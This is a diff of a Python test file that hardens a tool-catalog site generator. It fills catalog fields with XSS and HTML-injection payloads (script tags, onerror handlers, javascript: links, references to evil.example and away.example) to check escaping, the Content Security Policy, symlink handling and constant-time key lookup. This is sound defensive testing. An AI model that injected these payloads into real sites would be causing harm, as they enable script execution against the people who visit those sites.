@@ -33,16 +33,35 @@ pytestmark = pytest.mark.xdist_group("browser")
 # --- texts of a catalog, on every page
 
 TEXT = (
-    "mark\"'`></title></style></textarea></template></script><script>evil()</script><img src=x onerror=evil()><svg/onload=evil()>"
-    "[a](javascript:evil()) ![b](https://evil.example/b) <javascript:evil()> [c](data:text/html;base64;x 'x\" onclick=\"evil()') <a href=//evil.example>d</a>"
-    " [e](//evil.example) [f](java\tscript:evil()) &lt;script&gt; &#60;script&#62; {{ 7 * 7 }} {% raw %} ${evil()} --> ]]> %3Cscript%3E \\u003cscript\\u003e"
+    "mark\"'`></title></style></textarea></template></script><script>evil()</script><img src=x "
+    "onerror=evil()><svg/onload=evil()>"
+    "[a](javascript:evil()) ![b](https://evil.example/b) <javascript:evil()> "
+    "[c](data:text/html;base64;x 'x\" onclick=\"evil()') <a href=//evil.example>d</a>"
+    " [e](//evil.example) [f](java\tscript:evil()) &lt;script&gt; &#60;script&#62; {{ 7 * 7 }} "
+    "{% raw %} ${evil()} --> ]]> %3Cscript%3E \\u003cscript\\u003e"
 )
-PROSE = f"# {TEXT}\n\n- {TEXT}\n> {TEXT}\n\n```\n{TEXT}\n```\n\n<script>evil()</script>\n\n[g]: javascript:evil()\n[g]\n"
+PROSE = (
+    f"# {TEXT}\n\n- {TEXT}\n> {TEXT}\n\n```\n{TEXT}\n```\n\n<script>evil()</script>\n\n"
+    f"[g]: javascript:evil()\n[g]\n"
+)
+PROSE = (
+    f"# {TEXT}\n\n- {TEXT}\n> {TEXT}\n\n```\n{TEXT}\n```\n\n<script>evil()</script>\n\n"
+    f"[g]: javascript:evil()\n[g]\n"
+)
 # names and labels have at most 200 characters
 NAMES = (
-    "mark\"'`></title></style></textarea></template></script><script>evil()</script><img src=x onerror=evil()><svg/onload=evil()> {{ 7 * 7 }} ${evil()} --> ]]>",
-    "mark [a](javascript:evil()) <javascript:evil()> [c](data:text/html;base64;x 'x\" onclick=\"evil()') <a href=//evil.example>d</a> {% raw %} %3Cscript%3E \\u003cscript",
-    "mark ![b](https://evil.example/b) [e](//evil.example) [f](javascript:evil()) &lt;script&gt; &#60;script&#62;",
+    (
+        "mark\"'`></title></style></textarea></template></script><script>evil()</script><img "
+        "src=x onerror=evil()><svg/onload=evil()> {{ 7 * 7 }} ${evil()} --> ]]>"
+    ),
+    (
+        "mark [a](javascript:evil()) <javascript:evil()> [c](data:text/html;base64;x 'x\" "
+        "onclick=\"evil()') <a href=//evil.example>d</a> {% raw %} %3Cscript%3E \\u003cscript"
+    ),
+    (
+        "mark ![b](https://evil.example/b) [e](//evil.example) [f](javascript:evil()) "
+        "&lt;script&gt; &#60;script&#62;"
+    ),
 )
 NAME = NAMES[0]
 WORD = NAME
@@ -60,7 +79,7 @@ def description(depth: int = 2) -> dict[str, Any]:
     """A parameter description with every key there is but `required`, and a hostile text in each
     that takes one.
     """
-    told: dict[str, Any] = {
+    output: dict[str, Any] = {
         "type": "string",
         "title": TEXT,
         "description": PROSE,
@@ -82,7 +101,7 @@ def description(depth: int = 2) -> dict[str, Any]:
         "uniqueItems": True,
     }
     if not depth:
-        return {**told, **limits}
+        return {**output, **limits}
     inner = description(depth - 1)
     nested = {
         "items": inner,
@@ -105,27 +124,88 @@ def description(depth: int = 2) -> dict[str, Any]:
 def tool() -> dict[str, Any]:
     """A tool with every key that a tool can have."""
     return {
-        "name": NAME, "description": PROSE, "scopes": [*NAMES, "../../x"], "tags": [*NAMES, "important", "a/../b"], "no_auth": False,
-        "deprecation": {"reason": PROSE, "since": "2025-01-01", "sunset": "2026-01-01", "replaced_by": "MAIL_READ"},
-        "input_parameters": {TEXT[:200]: {**description(), "required": True}}, "output_parameters": {TEXT[:200]: description()},
+        "name": NAME,
+        "description": PROSE,
+        "scopes": [*NAMES, "../../x"],
+        "tags": [*NAMES, "important", "a/../b"],
+        "no_auth": False,
+        "deprecation": {
+            "reason": PROSE,
+            "since": "2025-01-01",
+            "sunset": "2026-01-01",
+            "replaced_by": "MAIL_READ",
+        },
+        "input_parameters": {TEXT[:200]: {**description(), "required": True}},
+        "output_parameters": {TEXT[:200]: description()},
         "source": {"method": "POST", "path": f"/{TEXT}"},
-    }  # fmt: skip
+    }
 
 
 FILES: dict[str, tuple[str, Any]] = {
-    "catalog.yaml": ("catalog", {"title": NAME, "description": PROSE, "home": URL, "repository": URL, "api": URL, "headline": NAME, "accent": "#0a6146", "links": dict.fromkeys(NAMES, URL), "rules": dict.fromkeys(("hidden-character", "link-script", "link-data", "instruction-like"), "off")}),
-    "toolkits/mail/toolkit.yaml": ("toolkit", {"name": NAME, "logo": URL, "description": PROSE, "categories": [*NAMES], "no_auth": False, "homepage": URL, "owners": [*NAMES], "mcp_server": {"name": "mail.example/mail", "version": "1", "url": URL, "package": {"registry": "npm", "identifier": "@mark/mail"}}}),
+    "catalog.yaml": (
+        "catalog",
+        {
+            "title": NAME,
+            "description": PROSE,
+            "home": URL,
+            "repository": URL,
+            "api": URL,
+            "headline": NAME,
+            "accent": "#0a6146",
+            "links": dict.fromkeys(NAMES, URL),
+            "rules": dict.fromkeys(
+                ("hidden-character", "link-script", "link-data", "instruction-like"), "off"
+            ),
+        },
+    ),
+    "toolkits/mail/toolkit.yaml": (
+        "toolkit",
+        {
+            "name": NAME,
+            "logo": URL,
+            "description": PROSE,
+            "categories": [*NAMES],
+            "no_auth": False,
+            "homepage": URL,
+            "owners": [*NAMES],
+            "mcp_server": {
+                "name": "mail.example/mail",
+                "version": "1",
+                "url": URL,
+                "package": {"registry": "npm", "identifier": "@mark/mail"},
+            },
+        },
+    ),
     "toolkits/mail/MAIL_SEND/20250101_00.yaml": ("tool", tool()),
-    "toolkits/mail/MAIL_SEND/20250202_00.yaml": ("tool", {**tool(), "input_parameters": {"other": description(1)}}),
+    "toolkits/mail/MAIL_SEND/20250202_00.yaml": (
+        "tool",
+        {**tool(), "input_parameters": {"other": description(1)}},
+    ),
     "toolkits/mail/MAIL_READ/20250101_00.yaml": ("tool", {"name": "Read", "description": TEXT}),
     "meta_tools/toolkit.yaml": ("toolkit", {"name": NAME, "logo": URL, "description": PROSE}),
-    "meta_tools/FIND_TOOLS/20250101_00.yaml": ("meta_tool", {**tool(), "deprecation": {"reason": PROSE}, "when": "manage_connections"}),
-    "auth_configs/ac_mail.yaml": ("auth_config", {"toolkit": "mail", "tools": ["MAIL_SEND"], "scopes": [*NAMES, "../../x"]}),
-    "sessions/trs_mark.yaml": ("session", {
-        "project": NAME, "user_id": NAME, "toolkits": {"enable": ["mail"]}, "tools": {"mail": {"enable": ["MAIL_SEND"]}}, "tags": {"enable": [WORD]}, "auth_configs": {"mail": "ac_mail"},
-        "toolkit_versions": {"mail": "20250202_00"}, "manage_connections": {"enable": True}, "meta_tools": ["FIND_TOOLS"],
-    }),
-}  # fmt: skip
+    "meta_tools/FIND_TOOLS/20250101_00.yaml": (
+        "meta_tool",
+        {**tool(), "deprecation": {"reason": PROSE}, "when": "manage_connections"},
+    ),
+    "auth_configs/ac_mail.yaml": (
+        "auth_config",
+        {"toolkit": "mail", "tools": ["MAIL_SEND"], "scopes": [*NAMES, "../../x"]},
+    ),
+    "sessions/trs_mark.yaml": (
+        "session",
+        {
+            "project": NAME,
+            "user_id": NAME,
+            "toolkits": {"enable": ["mail"]},
+            "tools": {"mail": {"enable": ["MAIL_SEND"]}},
+            "tags": {"enable": [WORD]},
+            "auth_configs": {"mail": "ac_mail"},
+            "toolkit_versions": {"mail": "20250202_00"},
+            "manage_connections": {"enable": True},
+            "meta_tools": ["FIND_TOOLS"],
+        },
+    ),
+}
 
 
 def plain(value: Any) -> Any:
@@ -138,7 +218,7 @@ def plain(value: Any) -> Any:
 
 
 def written(folder: Path, make: Any) -> Path:
-    """A catalog of those files, and its build and site beside it."""
+    """A catalog of those files, with its build and site."""
     for path, (_, value) in FILES.items():
         (folder / "catalog" / path).parent.mkdir(parents=True, exist_ok=True)
         (folder / "catalog" / path).write_bytes(to_yaml(make(value)))
@@ -194,27 +274,25 @@ class Page(HTMLParser):
         self.elements.add(("comment", data))
 
 
-def test_every_field_of_every_kind_of_file_is_hostile() -> None:
-    """The catalog of these tests has each key of each schema, so a field that is new is missed
-    here.
-    """
-    held = {
+def test_every_field_has_a_hostile_text() -> None:
+    """The catalog of these tests has each key of each schema, so new fields are noticed."""
+    allowed = {
         kind: {key for of, value in FILES.values() if of == kind for key in value}
         for kind in SCHEMAS
     }
-    assert held == {kind: {*schema["properties"]} for kind, schema in SCHEMAS.items()}
-    told: set[str] = set()
+    assert allowed == {kind: {*schema["properties"]} for kind, schema in SCHEMAS.items()}
+    output: set[str] = set()
     todo = [{**description(), "required": True}]
     while todo:
         one = todo.pop()
-        told |= {*one}
+        output |= {*one}
         todo += [
             inner
             for key in ("items", "additionalProperties")
             if isinstance(inner := one.get(key), dict)
         ]
         todo += [*one.get("properties", {}).values(), *one.get("anyOf", ()), *one.get("oneOf", ())]
-    assert told == {*SCHEMAS["tool"]["$defs"]["input"]["properties"]}
+    assert output == {*SCHEMAS["tool"]["$defs"]["input"]["properties"]}
 
 
 # What Markdown may add to a page, and nothing else.
@@ -234,12 +312,10 @@ MARKDOWN = {
 }
 
 
-def test_no_text_of_a_catalog_becomes_markup_on_any_page(hostile: Path, tmp_path: Path) -> None:
-    """The pages of a hostile catalog have no element, attribute or kind of address that those of a
-    plain one do not have.
-    """
+def test_catalog_texts_never_become_markup(hostile: Path, tmp_path: Path) -> None:
+    """Pages of a hostile catalog have only elements, attributes and URL schemes of a plain one."""
     good = written(tmp_path, plain)
-    known = {
+    references = {
         element
         for path in (good / "site").rglob("*.html")
         for element in Page(path.read_text()).elements
@@ -249,7 +325,7 @@ def test_no_text_of_a_catalog_becomes_markup_on_any_page(hostile: Path, tmp_path
     assert sum("evil()" in path.read_text() for path in pages) > 12
     for path in pages:
         page = Page(path.read_text())
-        assert page.elements <= known, (path.name, page.elements - known)
+        assert page.elements <= references, (path.name, page.elements - references)
         for name, address in page.addresses:
             scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", address, re.IGNORECASE)
             is_text = name == "content" and not address.startswith(("http", "//"))
@@ -263,26 +339,31 @@ def test_no_text_of_a_catalog_becomes_markup_on_any_page(hostile: Path, tmp_path
 # --- the policy, where something got through nevertheless
 
 TAMPERED = (
-    "<script>window.evil = 1</script><img src=x onerror='window.evil = 2'><a id=link href='javascript:window.evil = 3'>x</a><p style='color: red'>"
-    "<script src='https://away.example/x.js'></script><iframe src='https://away.example/'></iframe><base href='https://away.example/'>"
-    "<form id=form action='https://away.example/' method=post></form><object data='https://away.example/x'></object><link rel=stylesheet href='https://away.example/x.css'>"
+    "<script>window.evil = 1</script><img src=x onerror='window.evil = 2'><a id=link "
+    "href='javascript:window.evil = 3'>x</a><p style='color: red'>"
+    "<script src='https://away.example/x.js'></script><iframe "
+    "src='https://away.example/'></iframe><base href='https://away.example/'>"
+    "<form id=form action='https://away.example/' method=post></form><object "
+    "data='https://away.example/x'></object><link rel=stylesheet "
+    "href='https://away.example/x.css'>"
 )
-NOTE = "window.blocked = []; document.addEventListener('securitypolicyviolation', (event) => window.blocked.push(event.effectiveDirective))"
+NOTE = (
+    "window.blocked = []; document.addEventListener('securitypolicyviolation', (event) => "
+    "window.blocked.push(event.effectiveDirective))"
+)
 
 
-def test_chromium_runs_nothing_that_was_put_into_a_page(
+def test_content_security_policy_blocks_injected_markup(
     hostile: Path, browser: Browser, tmp_path: Path
 ) -> None:
-    """Even where somebody writes into a page, the policy that the server sends lets nothing of it
-    run, and nothing leave.
-    """
+    """In Chromium, even if somebody edits a page."""
     page_file = hostile / "site" / "index.html"
     good = page_file.read_text()
     page_file.write_text(good.replace("</main>", f"{TAMPERED}</main>"))
-    asked: list[str] = []
+    requests: list[str] = []
 
     def out(route: Route) -> None:
-        asked.append(route.request.url)
+        requests.append(route.request.url)
         route.abort()
 
     try:
@@ -293,7 +374,9 @@ def test_chromium_runs_nothing_that_was_put_into_a_page(
             page = context.new_page()
             page.goto(server.url)
             page.evaluate(
-                "document.getElementById('link').click(); document.getElementById('form').submit(); fetch('https://away.example/y').catch(() => 0)"
+                "document.getElementById('link').click(); "
+                "document.getElementById('form').submit(); "
+                "fetch('https://away.example/y').catch(() => 0)"
             )
             page.wait_for_function("window.blocked.length >= 9")
             blocked = set(page.evaluate("window.blocked"))
@@ -310,7 +393,7 @@ def test_chromium_runs_nothing_that_was_put_into_a_page(
                 "object-src",
             } <= blocked
             # logos lie elsewhere, and are asked for
-            assert [url for url in asked if "away.example" in url] == []
+            assert [url for url in requests if "away.example" in url] == []
             context.close()
     finally:
         page_file.write_text(good)
@@ -320,7 +403,7 @@ def test_chromium_runs_nothing_that_was_put_into_a_page(
 
 
 def small(folder: Path) -> Path:
-    """A catalog with one tool, and a secret beside it."""
+    """A catalog with one tool, next to a secret file."""
     (folder / "secret.yaml").write_text("name: TOP SECRET\ndescription: Not of this catalog.\n")
     tool = folder / "catalog" / "toolkits" / "mail" / "MAIL_SEND" / "20250101_00.yaml"
     tool.parent.mkdir(parents=True)
@@ -332,10 +415,8 @@ def small(folder: Path) -> Path:
     return tool
 
 
-def test_links_in_a_catalog_bring_nothing_in(tmp_path: Path) -> None:
-    """A link to a file, a folder, a device or itself is a problem in one sentence, and none of what
-    it leads to is told or built.
-    """
+def test_symlinks_in_a_catalog_read_nothing(tmp_path: Path) -> None:
+    """To a file, folder, device or itself: one sentence, and no content of the target."""
     tool = small(tmp_path)
     targets = {
         "20250102_00.yaml": tmp_path / "secret.yaml",
@@ -347,17 +428,17 @@ def test_links_in_a_catalog_bring_nothing_in(tmp_path: Path) -> None:
     for name, target in targets.items():
         (tool.parent / name).symlink_to(target)
     (tmp_path / "catalog" / "toolkits" / "linked").symlink_to(tmp_path)
-    done = run_toolcatalog(
+    result = run_toolcatalog(
         "check", "--catalog", tmp_path / "catalog", "--format", "json", cwd=tmp_path
     )
-    assert done.returncode == 1
-    told = [
+    assert result.returncode == 1
+    output = [
         (one["path"].rpartition("/")[2], one["rule"])
-        for one in json.loads(done.stdout)
+        for one in json.loads(result.stdout)
         if one["severity"] == "error"
     ]
-    assert {*targets, "linked"} <= {name for name, _ in told}
-    assert "SECRET" not in done.stdout + done.stderr
+    assert {*targets, "linked"} <= {name for name, _ in output}
+    assert "SECRET" not in result.stdout + result.stderr
     build = run_toolcatalog(
         "build",
         "--catalog",
@@ -370,10 +451,8 @@ def test_links_in_a_catalog_bring_nothing_in(tmp_path: Path) -> None:
     assert (build.returncode, (tmp_path / "build" / "current").exists()) == (1, False)
 
 
-def test_a_hard_link_is_a_file_that_is_only_read(tmp_path: Path) -> None:
-    """Git keeps no hard links and they look like files, so what one holds is read as any
-    file; nothing writes through it.
-    """
+def test_hard_links_are_read_as_files(tmp_path: Path) -> None:
+    """Git keeps none; nothing writes through them."""
     tool = small(tmp_path)
     os.link(tool, tmp_path / "beside.yaml")
     run_successfully(
@@ -391,9 +470,10 @@ def test_a_hard_link_is_a_file_that_is_only_read(tmp_path: Path) -> None:
 ROUNDS = 4000
 
 
-def test_right_and_wrong_keys_take_the_same_time(tmp_path: Path) -> None:
-    """Unknown, revoked and nearly right keys are looked up as fast as a right one: medians of
-    interleaved tries differ by less than the tries themselves.
+def test_wrong_keys_take_the_same_time(tmp_path: Path) -> None:
+    """Unknown, revoked and almost right keys; the difference of medians is below the noise.
+
+    A right key may take less: its answer tells that it is right.
     """
     file = tmp_path / "keys.json"
     right, key = api_keys.create(file, "default", None, None)
@@ -402,25 +482,26 @@ def test_right_and_wrong_keys_take_the_same_time(tmp_path: Path) -> None:
     for _ in range(50):
         api_keys.create(file, "default", None, None)
     ring = api_keys.KeyRing(file)
-    tried = {
-        "right": right,
+    assert ring.find(right.encode()) is not None
+    wrong = {
         "revoked": revoked,
         "unknown": create_key(tmp_path / "other.json"),
         "one letter": right[:-1] + ("a" if right[-1] != "a" else "b"),
         "half": right[: len(right) // 2] + "x" * (len(right) - len(right) // 2),
     }
-    secrets = {name: secret.encode() for name, secret in tried.items()}
-    assert [name for name, secret in secrets.items() if ring.find(secret)] == ["right"]
-    taken: dict[str, list[int]] = {name: [] for name in secrets}
+    secrets = {name: secret.encode() for name, secret in wrong.items()}
+    assert not any(ring.find(secret) for secret in secrets.values())
+    times: dict[str, list[int]] = {name: [] for name in secrets}
     names = [*secrets]
     for round_ in range(ROUNDS):
-        for name in names[round_ % 5 :] + names[: round_ % 5]:  # each in each place
+        first = round_ % len(names)
+        for name in names[first:] + names[:first]:  # each in each place
             began = time.perf_counter_ns()
             ring.find(secrets[name])
-            taken[name].append(time.perf_counter_ns() - began)
-    medians = {name: statistics.median(some) for name, some in taken.items()}
-    spread = statistics.quantiles(taken["right"], n=10)
-    noise = max(spread[-1] - spread[0], medians["right"] * 0.25)
+            times[name].append(time.perf_counter_ns() - began)
+    medians = {name: statistics.median(values) for name, values in times.items()}
+    spread = statistics.quantiles(times["unknown"], n=10)
+    noise = max(spread[-1] - spread[0], medians["unknown"] * 0.25)
     assert max(medians.values()) - min(medians.values()) < noise, (medians, noise)
     assert key.id in file.read_text()
 
@@ -428,8 +509,8 @@ def test_right_and_wrong_keys_take_the_same_time(tmp_path: Path) -> None:
 # --- what docs/explanation/security-model.md says
 
 
-def test_the_threat_model_names_tests_that_exist() -> None:
-    """Every threat names a test or says that it is not mitigated; every named test exists."""
+def test_threat_model_names_existing_tests() -> None:
+    """Or says that a threat is not mitigated."""
     folder = ROOT / "docs" / "explanation"
     pages = ("security-model.md", "security-of-operation.md")
     document = "\n".join((folder / page).read_text() for page in pages)
@@ -439,10 +520,8 @@ def test_the_threat_model_names_tests_that_exist() -> None:
     assert [one for one in threats if "::" not in one and "*Not mitigated*" not in one] == []
 
 
-def test_every_package_is_locked_by_hashes() -> None:
-    """Supply chain: each line of a lock file that names a package has at least one SHA-256, and
-    names no address.
-    """
+def test_locked_packages_have_hashes() -> None:
+    """Each line of a lock file has a SHA-256 and no URL."""
     for file in sorted((ROOT / "requirements").glob("*.txt")):
         blocks = re.split(r"\n(?=\S)", re.sub(r"(?m)^ *#.*\n", "", file.read_text()).strip())
         packages = [block for block in blocks if re.match(r"[a-z0-9]", block)]
